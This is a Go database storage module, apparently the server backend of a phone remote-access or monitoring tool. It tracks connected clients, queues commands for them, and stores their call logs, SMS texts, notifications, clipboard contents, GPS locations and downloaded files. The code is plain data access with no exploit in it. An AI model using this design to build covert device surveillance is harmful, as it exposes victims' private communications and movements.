package storage

import (
	"context"
	"database/sql"
	"encoding/json"
	"fmt"
	"time"
)

// BaseStore provides the shared Store implementation that works across SQLite
// and PostgreSQL. It embeds a *sql.DB connection and a Dialect.
//
// Query placeholders are written using SQLite style (?) and converted at
// runtime when using PostgreSQL, so every query exists exactly once.
type BaseStore struct {
	db      *sql.DB
	dialect Dialect
	dbPath  string // SQLite path or Postgres DSN, for diagnostics
}

// DB returns the underlying database connection.
func (s *BaseStore) DB() *sql.DB {
	return s.db
}

// Dialect returns the SQL dialect being used.
func (s *BaseStore) Dialect() Dialect {
	return s.dialect
}

// Close closes the database connection.
func (s *BaseStore) Close() error {
	if s.db != nil {
		return s.db.Close()
	}
	return nil
}

// query converts SQLite-style ? placeholders to the dialect's format.
func (s *BaseStore) query(q string) string {
	if s.dialect.Name() == "postgres" {
		return ConvertPlaceholders(q)
	}
	return q
}

func (s *BaseStore) execContext(ctx context.Context, query string, args ...interface{}) (sql.Result, error) {
	return s.db.ExecContext(ctx, s.query(query), args...)
}

func (s *BaseStore) queryContext(ctx context.Context, query string, args ...interface{}) (*sql.Rows, error) {
	return s.db.QueryContext(ctx, s.query(query), args...)
}

func (s *BaseStore) queryRowContext(ctx context.Context, query string, args ...interface{}) *sql.Row {
	return s.db.QueryRowContext(ctx, s.query(query), args...)
}

// ============================================================================
// Client Records
// ============================================================================

// GetClient returns the client record for clientID, or (nil, nil) if absent.
func (s *BaseStore) GetClient(ctx context.Context, clientID string) (*Client, error) {
	row := s.queryRowContext(ctx, `
		SELECT id, client_id, first_seen, last_seen, is_online, dynamic_data
		FROM clients WHERE client_id = ?
	`, clientID)

	client, err := scanClient(row)
	if err == sql.ErrNoRows {
		return nil, nil
	}
	if err != nil {
		return nil, fmt.Errorf("failed to get client: %w", err)
	}
	return client, nil
}

// CreateClient inserts a new client record.
func (s *BaseStore) CreateClient(ctx context.Context, client *Client) error {
	data, err := marshalJSONMap(client.DynamicData)
	if err != nil {
		return fmt.Errorf("failed to encode dynamic data: %w", err)
	}

	_, err = s.execContext(ctx, `
		INSERT INTO clients (client_id, first_seen, last_seen, is_online, dynamic_data)
		VALUES (?, ?, ?, ?, ?)
	`, client.ClientID, client.FirstSeen.UTC(), client.LastSeen.UTC(), client.IsOnline, data)
	if err != nil {
		return fmt.Errorf("failed to create client: %w", err)
	}
	return nil
}

// MarkClientOnline updates an existing record for a fresh connect: last seen
// bumped, online flag set, dynamic data replaced wholesale.
func (s *BaseStore) MarkClientOnline(ctx context.Context, clientID string, now time.Time, dynamicData map[string]interface{}) error {
	data, err := marshalJSONMap(dynamicData)
	if err != nil {
		return fmt.Errorf("failed to encode dynamic data: %w", err)
	}

	_, err = s.execContext(ctx, `
		UPDATE clients SET last_seen = ?, is_online = ?, dynamic_data = ?
		WHERE client_id = ?
	`, now.UTC(), true, data, clientID)
	if err != nil {
		return fmt.Errorf("failed to mark client online: %w", err)
	}
	return nil
}

// MarkClientOffline flips the online flag and bumps last seen.
func (s *BaseStore) MarkClientOffline(ctx context.Context, clientID string, now time.Time) error {
	_, err := s.execContext(ctx, `
		UPDATE clients SET last_seen = ?, is_online = ? WHERE client_id = ?
	`, now.UTC(), false, clientID)
	if err != nil {
		return fmt.Errorf("failed to mark client offline: %w", err)
	}
	return nil
}

// ListClients returns all known client records.
func (s *BaseStore) ListClients(ctx context.Context) ([]*Client, error) {
	return s.listClientsWhere(ctx, "", nil)
}

// ListClientsByOnline returns client records filtered by the online flag.
func (s *BaseStore) ListClientsByOnline(ctx context.Context, online bool) ([]*Client, error) {
	return s.listClientsWhere(ctx, "WHERE is_online = ?", []interface{}{online})
}

func (s *BaseStore) listClientsWhere(ctx context.Context, where string, args []interface{}) ([]*Client, error) {
	rows, err := s.queryContext(ctx, `
		SELECT id, client_id, first_seen, last_seen, is_online, dynamic_data
		FROM clients `+where+` ORDER BY first_seen
	`, args...)
	if err != nil {
		return nil, fmt.Errorf("failed to list clients: %w", err)
	}
	defer rows.Close()

	clients := make([]*Client, 0)
	for rows.Next() {
		client, err := scanClient(rows)
		if err != nil {
			return nil, fmt.Errorf("failed to scan client row: %w", err)
		}
		clients = append(clients, client)
	}
	return clients, rows.Err()
}

// DeleteClient removes the client record and all per-client sub-collections.
func (s *BaseStore) DeleteClient(ctx context.Context, clientID string) error {
	tx, err := s.db.BeginTx(ctx, nil)
	if err != nil {
		return fmt.Errorf("failed to begin transaction: %w", err)
	}
	defer tx.Rollback()

	tables := []string{
		"command_queue", "calls", "sms", "notifications",
		"clipboard", "locations", "downloads", "snapshots", "clients",
	}
	for _, table := range tables {
		if _, err := tx.ExecContext(ctx, s.query(`DELETE FROM `+table+` WHERE client_id = ?`), clientID); err != nil {
			return fmt.Errorf("failed to delete from %s: %w", table, err)
		}
	}

	if err := tx.Commit(); err != nil {
		return fmt.Errorf("failed to commit delete: %w", err)
	}
	return nil
}

type rowScanner interface {
	Scan(dest ...interface{}) error
}

func scanClient(row rowScanner) (*Client, error) {
	var c Client
	var data sql.NullString
	if err := row.Scan(&c.ID, &c.ClientID, &c.FirstSeen, &c.LastSeen, &c.IsOnline, &data); err != nil {
		return nil, err
	}
	if data.Valid && data.String != "" {
		if err := json.Unmarshal([]byte(data.String), &c.DynamicData); err != nil {
			return nil, fmt.Errorf("failed to decode dynamic data: %w", err)
		}
	}
	return &c, nil
}

// ============================================================================
// Command Queue
// ============================================================================

// ListQueuedCommands returns a client's pending commands in insertion order.
func (s *BaseStore) ListQueuedCommands(ctx context.Context, clientID string) ([]*QueuedCommand, error) {
	rows, err := s.queryContext(ctx, `
		SELECT id, client_id, command_type, payload, queued_at
		FROM command_queue WHERE client_id = ? ORDER BY seq
	`, clientID)
	if err != nil {
		return nil, fmt.Errorf("failed to list queued commands: %w", err)
	}
	defer rows.Close()

	cmds := make([]*QueuedCommand, 0)
	for rows.Next() {
		var cmd QueuedCommand
		var payload sql.NullString
		if err := rows.Scan(&cmd.ID, &cmd.ClientID, &cmd.Type, &payload, &cmd.QueuedAt); err != nil {
			return nil, fmt.Errorf("failed to scan queued command: %w", err)
		}
		if payload.Valid && payload.String != "" {
			if err := json.Unmarshal([]byte(payload.String), &cmd.Payload); err != nil {
				return nil, fmt.Errorf("failed to decode command payload: %w", err)
			}
		}
		cmds = append(cmds, &cmd)
	}
	return cmds, rows.Err()
}

// AppendQueuedCommand persists a new queue entry.
func (s *BaseStore) AppendQueuedCommand(ctx context.Context, cmd *QueuedCommand) error {
	payload, err := marshalJSONMap(cmd.Payload)
	if err != nil {
		return fmt.Errorf("failed to encode command payload: %w", err)
	}

	_, err = s.execContext(ctx, `
		INSERT INTO command_queue (id, client_id, command_type, payload, queued_at)
		VALUES (?, ?, ?, ?, ?)
	`, cmd.ID, cmd.ClientID, cmd.Type, payload, cmd.QueuedAt.UTC())
	if err != nil {
		return fmt.Errorf("failed to append queued command: %w", err)
	}
	return nil
}

// RemoveQueuedCommand deletes the queue entry with the given id.
func (s *BaseStore) RemoveQueuedCommand(ctx context.Context, clientID, id string) error {
	_, err := s.execContext(ctx, `
		DELETE FROM command_queue WHERE client_id = ? AND id = ?
	`, clientID, id)
	if err != nil {
		return fmt.Errorf("failed to remove queued command: %w", err)
	}
	return nil
}

// ============================================================================
// Telemetry Appends
// ============================================================================

func (s *BaseStore) AppendCall(ctx context.Context, clientID string, entry *CallEntry) error {
	_, err := s.execContext(ctx, `
		INSERT INTO calls (client_id, phone_no, name, direction, duration, date)
		VALUES (?, ?, ?, ?, ?, ?)
	`, clientID, entry.PhoneNo, nullString(entry.Name), nullString(entry.Direction), entry.Duration, entry.Date.UTC())
	if err != nil {
		return fmt.Errorf("failed to append call entry: %w", err)
	}
	return nil
}

func (s *BaseStore) AppendSMS(ctx context.Context, clientID string, entry *SMSEntry) error {
	_, err := s.execContext(ctx, `
		INSERT INTO sms (client_id, address, body, date)
		VALUES (?, ?, ?, ?)
	`, clientID, entry.Address, nullString(entry.Body), entry.Date.UTC())
	if err != nil {
		return fmt.Errorf("failed to append sms entry: %w", err)
	}
	return nil
}

func (s *BaseStore) AppendNotification(ctx context.Context, clientID string, entry *NotificationEntry) error {
	_, err := s.execContext(ctx, `
		INSERT INTO notifications (client_id, app_name, title, content, post_time)
		VALUES (?, ?, ?, ?, ?)
	`, clientID, entry.AppName, nullString(entry.Title), nullString(entry.Content), entry.PostTime.UTC())
	if err != nil {
		return fmt.Errorf("failed to append notification: %w", err)
	}
	return nil
}

func (s *BaseStore) AppendClipboard(ctx context.Context, clientID string, entry *ClipboardEntry) error {
	_, err := s.execContext(ctx, `
		INSERT INTO clipboard (client_id, content, captured_at)
		VALUES (?, ?, ?)
	`, clientID, entry.Content, entry.Time.UTC())
	if err != nil {
		return fmt.Errorf("failed to append clipboard entry: %w", err)
	}
	return nil
}

func (s *BaseStore) AppendLocation(ctx context.Context, clientID string, sample *LocationSample) error {
	_, err := s.execContext(ctx, `
		INSERT INTO locations (client_id, latitude, longitude, accuracy, date)
		VALUES (?, ?, ?, ?, ?)
	`, clientID, sample.Latitude, sample.Longitude, sample.Accuracy, sample.Date.UTC())
	if err != nil {
		return fmt.Errorf("failed to append location sample: %w", err)
	}
	return nil
}

func (s *BaseStore) AppendDownload(ctx context.Context, clientID string, rec *DownloadRecord) error {
	_, err := s.execContext(ctx, `
		INSERT INTO downloads (client_id, media_type, original_name, path, created_at)
		VALUES (?, ?, ?, ?, ?)
	`, clientID, rec.Type, rec.OriginalName, rec.Path, rec.Time.UTC())
	if err != nil {
		return fmt.Errorf("failed to append download record: %w", err)
	}
	return nil
}

// ============================================================================
// Telemetry Reads
// ============================================================================

func (s *BaseStore) ListCalls(ctx context.Context, clientID string) ([]*CallEntry, error) {
	rows, err := s.queryContext(ctx, `
		SELECT id, phone_no, name, direction, duration, date
		FROM calls WHERE client_id = ? ORDER BY date DESC
	`, clientID)
	if err != nil {
		return nil, fmt.Errorf("failed to list calls: %w", err)
	}
	defer rows.Close()

	entries := make([]*CallEntry, 0)
	for rows.Next() {
		var e CallEntry
		var name, direction sql.NullString
		if err := rows.Scan(&e.ID, &e.PhoneNo, &name, &direction, &e.Duration, &e.Date); err != nil {
			return nil, fmt.Errorf("failed to scan call entry: %w", err)
		}
		e.Name = name.String
		e.Direction = direction.String
		entries = append(entries, &e)
	}
	return entries, rows.Err()
}

func (s *BaseStore) ListSMS(ctx context.Context, clientID string) ([]*SMSEntry, error) {
	rows, err := s.queryContext(ctx, `
		SELECT id, address, body, date
		FROM sms WHERE client_id = ? ORDER BY id
	`, clientID)
	if err != nil {
		return nil, fmt.Errorf("failed to list sms: %w", err)
	}
	defer rows.Close()

	entries := make([]*SMSEntry, 0)
	for rows.Next() {
		var e SMSEntry
		var body sql.NullString
		if err := rows.Scan(&e.ID, &e.Address, &body, &e.Date); err != nil {
			return nil, fmt.Errorf("failed to scan sms entry: %w", err)
		}
		e.Body = body.String
		entries = append(entries, &e)
	}
	return entries, rows.Err()
}

func (s *BaseStore) ListNotifications(ctx context.Context, clientID string) ([]*NotificationEntry, error) {
	rows, err := s.queryContext(ctx, `
		SELECT id, app_name, title, content, post_time
		FROM notifications WHERE client_id = ? ORDER BY post_time DESC
	`, clientID)
	if err != nil {
		return nil, fmt.Errorf("failed to list notifications: %w", err)
	}
	defer rows.Close()

	entries := make([]*NotificationEntry, 0)
	for rows.Next() {
		var e NotificationEntry
		var title, content sql.NullString
		if err := rows.Scan(&e.ID, &e.AppName, &title, &content, &e.PostTime); err != nil {
			return nil, fmt.Errorf("failed to scan notification: %w", err)
		}
		e.Title = title.String
		e.Content = content.String
		entries = append(entries, &e)
	}
	return entries, rows.Err()
}

func (s *BaseStore) ListClipboard(ctx context.Context, clientID string) ([]*ClipboardEntry, error) {
	rows, err := s.queryContext(ctx, `
		SELECT id, content, captured_at
		FROM clipboard WHERE client_id = ? ORDER BY captured_at DESC
	`, clientID)
	if err != nil {
		return nil, fmt.Errorf("failed to list clipboard: %w", err)
	}
	defer rows.Close()

	entries := make([]*ClipboardEntry, 0)
	for rows.Next() {
		var e ClipboardEntry
		if err := rows.Scan(&e.ID, &e.Content, &e.Time); err != nil {
			return nil, fmt.Errorf("failed to scan clipboard entry: %w", err)
		}
		entries = append(entries, &e)
	}
	return entries, rows.Err()
}

func (s *BaseStore) ListLocations(ctx context.Context, clientID string) ([]*LocationSample, error) {
	rows, err := s.queryContext(ctx, `
		SELECT id, latitude, longitude, accuracy, date
		FROM locations WHERE client_id = ? ORDER BY date DESC
	`, clientID)
	if err != nil {
		return nil, fmt.Errorf("failed to list locations: %w", err)
	}
	defer rows.Close()

	samples := make([]*LocationSample, 0)
	for rows.Next() {
		var sSample LocationSample
		if err := rows.Scan(&sSample.ID, &sSample.Latitude, &sSample.Longitude, &sSample.Accuracy, &sSample.Date); err != nil {
			return nil, fmt.Errorf("failed to scan location sample: %w", err)
		}
		samples = append(samples, &sSample)
	}
	return samples, rows.Err()
}

// LatestLocation returns the freshest location sample, or (nil, nil) if none.
func (s *BaseStore) LatestLocation(ctx context.Context, clientID string) (*LocationSample, error) {
	row := s.queryRowContext(ctx, `
		SELECT id, latitude, longitude, accuracy, date
		FROM locations WHERE client_id = ? ORDER BY date DESC LIMIT 1
	`, clientID)

	var sample LocationSample
	err := row.Scan(&sample.ID, &sample.Latitude, &sample.Longitude, &sample.Accuracy, &sample.Date)
	if err == sql.ErrNoRows {
		return nil, nil
	}
	if err != nil {
		return nil, fmt.Errorf("failed to get latest location: %w", err)
	}
	return &sample, nil
}

func (s *BaseStore) ListDownloads(ctx context.Context, clientID string) ([]*DownloadRecord, error) {
	return s.listDownloadsWhere(ctx, `WHERE client_id = ?`, clientID)
}

func (s *BaseStore) ListDownloadsByType(ctx context.Context, clientID, mediaType string) ([]*DownloadRecord, error) {
	return s.listDownloadsWhere(ctx, `WHERE client_id = ? AND media_type = ?`, clientID, mediaType)
}

func (s *BaseStore) listDownloadsWhere(ctx context.Context, where string, args ...interface{}) ([]*DownloadRecord, error) {
	rows, err := s.queryContext(ctx, `
		SELECT id, media_type, original_name, path, created_at
		FROM downloads `+where+` ORDER BY id
	`, args...)
	if err != nil {
		return nil, fmt.Errorf("failed to list downloads: %w", err)
	}
	defer rows.Close()

	recs := make([]*DownloadRecord, 0)
	for rows.Next() {
		var r DownloadRecord
		if err := rows.Scan(&r.ID, &r.Type, &r.OriginalName, &r.Path, &r.Time); err != nil {
			return nil, fmt.Errorf("failed to scan download record: %w", err)
		}
		recs = append(recs, &r)
	}
	return recs, rows.Err()
}

// ============================================================================
// Snapshot Sections
// ============================================================================

// PutSnapshot replaces the stored value for a (client, section) pair.
func (s *BaseStore) PutSnapshot(ctx context.Context, clientID, section string, data json.RawMessage) error {
	upsert := s.dialect.UpsertConflict([]string{"client_id", "section"})
	_, err := s.execContext(ctx, `
		INSERT INTO snapshots (client_id, section, data, updated_at)
		VALUES (?, ?, ?, ?)
		`+upsert+` data = excluded.data, updated_at = excluded.updated_at
	`, clientID, section, string(data), time.Now().UTC())
	if err != nil {
		return fmt.Errorf("failed to put snapshot: %w", err)
	}
	return nil
}

// GetSnapshot returns the stored value for a (client, section) pair, or
// (nil, nil) if nothing has been reported yet.
func (s *BaseStore) GetSnapshot(ctx context.Context, clientID, section string) (json.RawMessage, error) {
	row := s.queryRowContext(ctx, `
		SELECT data FROM snapshots WHERE client_id = ? AND section = ?
	`, clientID, section)

	var data string
	err := row.Scan(&data)
	if err == sql.ErrNoRows {
		return nil, nil
	}
	if err != nil {
		return nil, fmt.Errorf("failed to get snapshot: %w", err)
	}
	return json.RawMessage(data), nil
}
